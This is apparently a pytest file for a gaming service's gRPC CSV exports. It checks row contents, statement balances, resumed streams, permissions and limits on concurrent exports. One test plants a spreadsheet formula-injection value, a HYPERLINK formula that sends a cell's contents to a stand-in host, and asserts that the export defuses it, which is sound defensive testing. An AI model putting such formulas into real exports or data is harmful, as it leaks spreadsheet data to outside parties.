"""Exports over gRPC: they say what the calls say, go on where they broke off, and harm no spreadsheet."""

from __future__ import annotations

import asyncio
import csv
import io
import uuid
from typing import Any

import grpc
import pytest

from servicekit.grpc import Actor, acting_as
from tests.history.desk.asking import all_of, csv_of, refused
from tests.history.desk.test_lines import BLANK_OR_QUOTED, FORMULA
from tests.history.desk.world import OPERATIONS, ROUND_S, TIMEOUT_S, World, at, money, player, staff
from tests.messaging.waiting import until
from upcard.history.v1 import history_pb2 as pb
from upcard_history.entrypoints.grpc import exporting
from upcard_history.entrypoints.grpc.asking import patiently


def rows_of(text: str) -> list[dict[str, str]]:
    """The rows of a file."""
    return list(csv.DictReader(io.StringIO(text, newline="")))


async def rounds(world: World, **wanted: Any) -> str:
    """All rounds, as operations."""
    with acting_as(OPERATIONS):
        return await csv_of(world.stub.ExportRounds(pb.ExportRoundsRequest(**wanted), timeout=TIMEOUT_S))


async def player_rounds(world: World, who: Actor, **wanted: Any) -> str:
    """A player's rounds."""
    with acting_as(who):
        request = pb.ExportPlayerRoundsRequest(**wanted)
        return await csv_of(world.stub.ExportPlayerRounds(request, timeout=TIMEOUT_S))


async def statement(world: World, who: Actor, **wanted: Any) -> str:
    """The statement of the first day."""
    of = pb.StatementOf(player=pb.PlayerCurrency(player="", currency="EUR"))
    request = pb.ExportStatementRequest(**{"of": of, "since": at(0), "until": at(86_400), **wanted})
    with acting_as(who):
        return await csv_of(world.stub.ExportStatement(request, timeout=TIMEOUT_S))


async def figures(world: World, **wanted: Any) -> str:
    """Figures of the first day by hour, as operations."""
    query = pb.FigureQuery(**{"period": pb.FIGURE_PERIOD_HOUR, "since": at(0), "until": at(86_400), **wanted})
    with acting_as(OPERATIONS):
        return await csv_of(world.stub.ExportFigures(pb.ExportFiguresRequest(query=query), timeout=TIMEOUT_S))


async def test_rounds_say_what_the_list_says(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exporting, "PAGE", 2)
    for number in range(1, 6):
        await world.play(number=number)
    await world.play(table="t2", number=6, events=4)
    await world.apply()
    found = rows_of(await rounds(world))
    with acting_as(OPERATIONS):
        listed = (await world.stub.ListRounds(pb.ListRoundsRequest(), timeout=TIMEOUT_S)).rounds
    assert [row["round"] for row in found] == [one.round for one in listed]
    for row, one in zip(found, listed, strict=True):
        for total in one.totals:
            assert (row["currency"], int(row["staked"]), int(row["returned"]), int(row["players"])) == (
                total.currency,
                total.staked,
                total.returned,
                total.players,
            )
    assert (found[0]["state"], found[0]["ended_at"], found[0]["staked"]) == ("open", "", "")
    filtered = rows_of(await rounds(world, filter=pb.RoundFilter(table="t2")))
    assert [row["round"] for row in filtered] == ["t2.6"]


async def test_a_players_rounds_are_theirs(world: World) -> None:
    for number in range(1, 4):
        await world.play(number=number, players=("p1", "p2"))
    await world.apply()
    text = await player_rounds(world, player("p1"))
    assert "p2" not in text
    found = rows_of(text)
    assert [row["number"] for row in found] == ["3", "2", "1"]
    assert all(int(row["net"]) == int(row["returned"]) - int(row["staked"]) for row in found)
    assert all(row["boxes"].startswith("box ") for row in found)
    assert text == await player_rounds(world, OPERATIONS, player="p1")
    period = pb.Period(since=at(ROUND_S), until=at(2 * ROUND_S))
    filtered = rows_of(await player_rounds(world, player("p1"), opened=period))
    assert [row["number"] for row in filtered] == ["2"]


async def test_a_statement_begins_and_ends_with_balances(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exporting, "PAGE", 2)
    await world.account("p1", *(("Deposited", number, money(number)) for number in range(1, 6)))
    await world.apply()
    found = rows_of(await statement(world, player("p1"), since=at(3)))
    assert [row["kind"] for row in found] == ["opening", *["deposit"] * 3, "closing"]
    assert [row["balance_cash"] for row in found] == ["3", "6", "10", "15", "15"]
    assert [row["cash"] for row in found] == ["", "3", "4", "5", ""]
    empty = rows_of(await statement(world, player("p1"), since=at(100)))
    assert [(row["kind"], row["balance_cash"]) for row in empty] == [("opening", "15"), ("closing", "15")]


async def test_a_statement_goes_on_where_it_broke_off(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exporting, "PAGE", 7)
    await world.account("p1", *(("Deposited", number, money(number)) for number in range(1, 801)))
    await world.apply()
    of = pb.StatementOf(player=pb.PlayerCurrency(currency="EUR"))
    request = pb.ExportStatementRequest(of=of, since=at(0), until=at(86_400))
    whole = await statement(world, player("p1"))
    assert len(rows_of(whole)) == 802
    with acting_as(player("p1")):
        stream = world.stub.ExportStatement(request, timeout=TIMEOUT_S)
        first = (await anext(aiter(stream))).piece
        stream.cancel()
        assert first.after
        assert not first.last
        request.after = first.after
        rest = await csv_of(world.stub.ExportStatement(request, timeout=TIMEOUT_S))
    assert first.data.decode() + rest == whole


async def test_figures_can_be_added_up(world: World) -> None:
    for number in range(1, 4):
        await world.play(number=number)
    await world.play("dark-boxes@1", table="t2", number=3)
    await world.apply()
    found = rows_of(await figures(world, by=pb.FIGURE_DIMENSION_TABLE))
    assert sum(int(row["rounds"] or 0) for row in found) == 4
    settled = rows_of(await rounds(world))
    for name in ("staked", "returned"):
        column = {"staked": "turnover"}.get(name, name)
        assert sum(int(row[column] or 0) for row in found) == sum(int(row[name]) for row in settled)
    for row in found:
        if row["currency"]:
            assert int(row["ggr"]) == int(row["turnover"]) - int(row["returned"])
            assert row["rounds"] == ""


async def test_no_cell_of_an_export_is_a_formula(world: World) -> None:
    await world.account(
        "p1",
        (
            "Adjusted",
            1,
            {
                "transaction": str(uuid.uuid4()),
                "book": "cash",
                "amount": 5,
                "against": "house",
                "reason": '=HYPERLINK("http://x/?"&A1)',
                "proposer": "staff:a",
                "approver": "staff:b",
            },
        ),
    )
    await world.apply()
    text = await statement(world, player("p1"))
    for row in rows_of(text):
        for cell in row.values():
            assert cell.isdigit() or not FORMULA.match(cell) or BLANK_OR_QUOTED.match(cell), cell
    assert "'=HYPERLINK" in text


async def test_staff_who_may_look_may_not_take_everybodys_rounds_away(world: World) -> None:
    with acting_as(staff("support")):
        assert (await world.stub.ListRounds(pb.ListRoundsRequest(), timeout=TIMEOUT_S)).next == ""
        call = world.stub.ExportRounds(pb.ExportRoundsRequest(), timeout=TIMEOUT_S)
        assert await refused(all_of(call)) == (grpc.StatusCode.PERMISSION_DENIED, "role_missing")


async def test_only_so_many_exports_at_once(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    gate = asyncio.Event()
    waiting = asyncio.Semaphore(0)

    async def slowly(ask: Any) -> Any:
        waiting.release()
        await gate.wait()
        return await patiently(ask)

    monkeypatch.setattr(exporting, "patiently", slowly)

    async def export(name: str) -> str:
        return await player_rounds(world, player(name))

    running = [asyncio.create_task(export(name)) for name in ("p1", "p1", "p2", "p3")]
    async with asyncio.timeout(TIMEOUT_S):
        for _ in running:
            await waiting.acquire()
    assert world.turns.taken_now == 4
    assert await refused(export("p4")) == (grpc.StatusCode.RESOURCE_EXHAUSTED, "exports_busy")
    gate.set()
    await asyncio.gather(*running)
    assert world.turns.taken_now == 0
    assert rows_of(await export("p4")) == []


async def test_an_export_whose_reader_goes_away_gives_its_turn_back(world: World) -> None:
    await world.play()
    await world.apply()
    with acting_as(OPERATIONS):
        for _ in range(6):
            stream = world.stub.ExportRounds(pb.ExportRoundsRequest(), timeout=TIMEOUT_S)
            async for _message in stream:
                stream.cancel()
                break
    await until(lambda: not world.turns.taken_now)
    assert len(rows_of(await rounds(world))) == 1
